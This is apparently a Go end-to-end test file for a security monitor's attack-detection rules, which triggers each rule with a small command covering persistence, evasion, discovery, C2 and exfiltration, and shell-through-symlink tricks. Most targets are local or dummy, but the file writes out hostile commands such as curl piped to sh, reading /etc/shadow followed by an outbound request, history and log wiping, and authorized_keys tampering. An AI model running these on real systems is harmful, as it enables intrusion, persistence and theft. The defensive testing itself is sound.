package rules

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"github.com/bermsec/berm/agent/event"
)

// End-to-end cases of the attack-technique rules (attack-*.yaml): each a real behaviour inside
// berm run under the strict policy, whose alert TestE2EShippedRules finds in the call's
// timeline. Programs this host lacks are asked of a shell (the rule sees the shell's script).
var attackE2ECases = []e2eCase{
	// attack-persistence.yaml
	{rule: "persist-system-file", cmd: sh("echo x > /etc/cron.d/evil 2>/dev/null; true")},
	{rule: "persist-system-change", cmd: pySyscall("open('/tmp/x', 'w').close()\nattempt(lambda: os.rename('/tmp/x', '/etc/cron.d/x'))\n")},
	{rule: "persist-user-file", cmd: sh("echo 'echo hi' >> ~/.bashrc")},
	{rule: "persist-scheduler", cmd: sh("systemd-run --user --on-calendar '*:0/1' /bin/true >/dev/null 2>&1; true")},
	{rule: "persist-service-control", cmd: sh("systemctl stop cron >/dev/null 2>&1; true")},
	{rule: "persist-account-change", cmd: sh("useradd -M evil_user >/dev/null 2>&1; true")},
	{rule: "persist-preload-command", cmd: sh("LD_PRELOAD=/tmp/none.so /bin/true 2>/dev/null; true")},
	{rule: "persist-python-startup", cmd: sh("d=~/.local/lib/python3.11/site-packages && mkdir -p $d && echo 'import os' > $d/usercustomize.py")},
	{rule: "persist-script-redirect", cmd: sh("if [ -f ~/.ssh/authorized_keys ]; then echo key >> ~/.ssh/authorized_keys; fi; true")},
	// attack-evasion.yaml
	{rule: "evasion-history-tamper", cmd: sh("echo '' > ~/.bash_history")},
	{rule: "evasion-log-tamper", cmd: sh("echo > /var/log/syslog 2>/dev/null; true")},
	{rule: "evasion-shred", cmd: sh("echo secret > /tmp/s && shred -u /tmp/s")},
	{rule: "evasion-timestomp", cmd: sh("touch -t 197001010000.00 /tmp/t")},
	{rule: "evasion-file-attributes", cmd: sh("touch /tmp/f && chattr +i /tmp/f 2>/dev/null; true")},
	{rule: "evasion-permission-change-outside", cmd: sh("chmod 755 /usr/local/bin 2>/dev/null; true")},
	{rule: "evasion-hidden-file", cmd: sh("mkdir /tmp/.hidden && echo x > /tmp/.hidden/.f")},
	{rule: "evasion-system-write", cmd: sh("echo x > /usr/local/bin/tool 2>/dev/null; true")},
	{rule: "evasion-system-tree-change", cmd: sh("rm -f /usr/local/bin/python3 2>/dev/null; true")},
	{rule: "evasion-decode-to-shell", cmd: sh("echo ZWNobyBoaQ== | base64 -d | sh")},
	{rule: "evasion-disable-defences", cmd: sh("sysctl -w kernel.randomize_va_space=0 >/dev/null 2>&1; true")},
	{rule: "evasion-masquerade-extension", cmd: sh("echo 'echo hi' > /tmp/image.png && sh /tmp/image.png")},
	{rule: "evasion-decode-command", cmd: sh("echo aGk= | base64 -d")},
	{rule: "evasion-owner-mode-change", cmd: sh("touch /tmp/f && chown root /tmp/f 2>/dev/null; true")},
	{rule: "evasion-pad-file", cmd: sh("touch /tmp/f && truncate -s +1 /tmp/f")},
	{rule: "evasion-shell-hook", cmd: []string{"/bin/bash", "-c", "trap 'true' DEBUG; true"}},
	// attack-discovery.yaml
	{rule: "discovery-users", cmd: sh("who; users; true")},
	{rule: "discovery-processes", cmd: sh("ps aux >/dev/null")},
	{rule: "discovery-security-software", cmd: sh("ps aux | grep -E 'falcond|osqueryd' >/dev/null; true")},
	{rule: "discovery-network", cmd: sh("ip route show >/dev/null 2>&1; true")},
	{rule: "discovery-system", cmd: sh("cat /sys/class/dmi/id/product_name >/dev/null 2>&1; true")},
	{rule: "discovery-file-search", cmd: sh("find / -maxdepth 2 -name id_rsa 2>/dev/null; true")},
	{rule: "discovery-auth-policy", cmd: sh("cat /etc/login.defs >/dev/null 2>&1; true")},
	{rule: "discovery-nsenter-host", cmd: sh("nsenter -t 1 -m true 2>/dev/null; true")},
	// attack-c2.yaml
	{rule: "c2-mining-pool", cmd: pySyscall("s = socket.socket()\ns.settimeout(1)\nattempt(lambda: s.connect(('127.0.0.1', 3333)))\n")},
	{rule: "c2-netcat", cmd: []string{"/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/4444 2>/dev/null; true"}},
	{rule: "c2-remote-shell", cmd: sh("ssh -o BatchMode=yes -o ConnectTimeout=1 user@host.invalid true 2>/dev/null; true")},
	{rule: "c2-ssh-nonstandard", cmd: sh("ssh -p 2222 -o BatchMode=yes -o ConnectTimeout=1 user@127.0.0.1 true 2>/dev/null; true")},
	{rule: "c2-proxy", cmd: sh("curl -s -m 1 --proxy http://127.0.0.1:3128 http://example.com >/dev/null; true")},
	{rule: "c2-http-upload", cmd: sh("curl -s -m 1 -d secret=1 http://127.0.0.1:9/ >/dev/null; true")},
	{rule: "c2-ip-lookup", cmd: sh("curl -s -m 1 https://ipinfo.io/ >/dev/null; true")},
	{rule: "c2-exfil-split", cmd: sh("head -c 10000 /dev/zero > /tmp/d && cd /tmp && split -b 4000 d part")},
	// attack-impact.yaml
	{rule: "impact-process-kill", cmd: sh("pkill -0 no-such-process; true")},
	{rule: "impact-encrypt-data", cmd: sh("echo x > /tmp/p && openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in /tmp/p -out /tmp/p.enc")},
	{rule: "impact-collect-system-data", cmd: sh("tar -czf /tmp/etc.tgz /etc/hostname 2>/dev/null; true")},
	{rule: "privesc-sudo", cmd: sh("sudo id 2>/dev/null; true")},
	// attack-execution.yaml
	{rule: "exec-pipe-to-shell", cmd: sh("curl -s -m 1 http://127.0.0.1:9/x.sh | sh")},
	{rule: "exec-script-from-writable-dir", cmd: sh("echo true > /tmp/s.sh && sh /tmp/s.sh")},
	{rule: "exec-shell-escape", cmd: sh("awk 'BEGIN {system(\"true\")}'")},
	{rule: "exec-pty-spawn", cmd: []string{py, "-c", "import pty; pty.spawn(['/bin/true'])"}},
	{rule: "exec-inline-program-runs-commands", cmd: []string{py, "-c", "import os; os.system('curl -s -m 1 http://127.0.0.1:9/ >/dev/null')"}},
	{rule: "exec-offensive-tooling", cmd: sh("curl -s -m 1 -o /tmp/l http://127.0.0.1:9/linpeas.sh; true")},
	{rule: "exec-kernel-module-tool", cmd: sh("modprobe dummy 2>/dev/null; true")},
	// attack-credential.yaml
	{rule: "credential-history-read", cmd: sh("touch ~/.bash_history && cat ~/.bash_history")},
	{rule: "sequence-download-then-execute", cmd: sh(downloadAndRun)},
	{rule: "sequence-credential-then-connect", cmd: sh("cat /etc/shadow 2>/dev/null; curl -s -m 1 http://127.0.0.1:9/ >/dev/null; true")},
}

// downloadAndRun downloads a script with curl (a file:// URL: the call has no network, and
// the kernel sees curl write the file all the same) under another name and runs it with sh.
const downloadAndRun = "echo true > src.sh && curl -s -o stage.sh file://$PWD/src.sh && sh ./stage.sh"

func init() { e2eCases = append(e2eCases, attackE2ECases...) }

// Rules see what the kernel executed, not argv[0]: a shell started by an interpreter through a
// planted symlink in the workspace (./formatter -> /bin/sh), or through execveat(AT_EMPTY_PATH)
// on an fd of /bin/sh, is still a shell to exec-interpreter-shell (exec.exe_name is the
// kernel's name of the file that runs). If the rule went back to argv[0]'s basename, both
// cases would pass unseen.
func TestE2EShellThroughPlantedNames(t *testing.T) {
	bin := buildBerm(t)
	stateDir, err := os.MkdirTemp("/var/tmp", "berm-rules-e2e-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(stateDir) })
	// The strict policy refuses execveat(AT_EMPTY_PATH) outright (and exec-fileless alerts on
	// the attempt); a policy that allows running descriptors must not make the shell invisible.
	shell, err := filepath.EvalSymlinks("/bin/sh")
	if err != nil {
		t.Fatal(err)
	}
	fexecve := stateDir + "/fexecve.yaml"
	if err := os.WriteFile(fexecve, []byte("apiVersion: berm.dev/v1alpha1\nkind: ToolPolicy\nmetadata: {name: fexecve}\nspec:\n  syscalls: {denyExecutableMemfd: false}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for i, c := range []struct {
		name  string
		flags []string
		cmd   []string
	}{
		{"workspace-symlink", nil, []string{py, "-c", "import os, subprocess\nos.symlink('/bin/sh', 'formatter')\nsubprocess.run(['./formatter', '-c', 'true'])\n"}},
		{"execveat-empty-path", []string{"--policy", fexecve}, []string{py, "-c", "import os\nfd = os.open('/bin/sh', os.O_RDONLY)\npid = os.fork()\nif pid == 0:\n    os.execve(fd, ['fmt', '-c', 'true'], {})\nos.waitpid(pid, 0)\n"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			callID := fmt.Sprintf("planted-%d", i)
			events := runCall(t, bin, stateDir, callID, c.flags, c.cmd)
			var execs []string
			alerted, resolved := false, false
			for _, ev := range events {
				if ev.Kind == event.KindExec {
					execs = append(execs, fmt.Sprintf("%s (%s, %s) parent %s", ev.Exec.Filename, ev.Exec.ExeName, ev.Exec.ExePath, ev.ParentExe))
					// the kernel's path of what ran, whatever name it was run by
					if ev.Exec.ExePath == shell && ev.Exe == shell && ev.Exec.Filename != "/bin/sh" {
						resolved = true
					}
				}
				if ev.Kind == event.KindAlert && ev.Alert.RuleID == "exec-interpreter-shell" {
					alerted = true
				}
			}
			if !alerted {
				t.Errorf("no exec-interpreter-shell alert in call %s; execs: %v", callID, execs)
			}
			if !resolved {
				t.Errorf("no exec event of call %s names %s as the executed file (exec.exe_path, proc.exe); execs: %v", callID, shell, execs)
			}
		})
	}
}
